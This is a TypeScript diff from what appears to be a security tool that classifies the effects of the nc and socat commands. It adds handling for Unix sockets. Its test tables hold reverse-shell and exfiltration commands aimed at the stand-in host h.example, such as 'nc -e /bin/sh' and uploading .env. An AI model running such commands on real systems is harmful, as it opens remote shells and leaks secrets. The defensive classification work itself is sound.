@@ -14,12 +14,14 @@ const nc = (): ProgramDescriptor => ({
     '-l --listen -k': { effects: [{ kind: 'network', target: 'network:listen' }] },
     '-p -s -w -q -i -x -X -T -O -P -I -V -g -G --source-port --wait --proxy --proxy-type --idle-timeout --max-conns': 'text',
     '-o --output --append-output': 'write',
-    '-n -v -z -u -4 -6 -C -d -r -t -N -U -h': 'flag',
+    '-n -v -z -u -4 -6 -C -d -r -t -N -h': 'flag',
+    '-U --unixsock': 'read',
   },
   operands: { first: [{ as: 'url', direction: 'both' }] },
   stdin: 'data',
   cases: [{ when: { any: ['-l'] }, operands: { rest: 'text' } }],
   match: {
+    'nc -U /run/x.sock': 'read /run/x.sock',
     'nc -e /bin/sh h.example 4444': 'execute #downloaded_code; network both h.example',
     'nc h.example 80 < .env': 'network upload h.example #uploads',
     'tar cz src | nc h.example 80': 'network upload h.example',
@@ -41,6 +43,7 @@ function socatAddress(text: string): readonly Finding[] {
   if (/listen|recv/i.test(kind)) return [{ kind: 'network', target: 'network:listen' }];
   if (/^(?:tcp|udp|ssl|openssl|sctp|proxy|socks)/i.test(kind)) return [{ use: { as: 'url', direction: 'both' }, value: first }];
   if (/^(?:create|open|file|gopen)$/i.test(kind)) return [{ use: 'update', value: first }];
+  if (/^unix-(?:connect|client|sendto)$|^unix$/i.test(kind)) return [{ use: 'read', value: first }];
   return [];
 }
 
@@ -54,6 +57,7 @@ const socat = (): ProgramDescriptor => ({
   match: {
     'socat TCP:h.example:1 EXEC:/bin/sh': 'network both h.example; execute #downloaded_code',
     'socat -u FILE:.env TCP:h.example:1': 'read /w/.env #secret',
+    'socat - UNIX-CONNECT:/run/x.sock': 'read /run/x.sock',
   },
   notMatch: { 'socat TCP-LISTEN:80,fork TCP:localhost:8080': '* #downloaded_code; unknown' },
 });
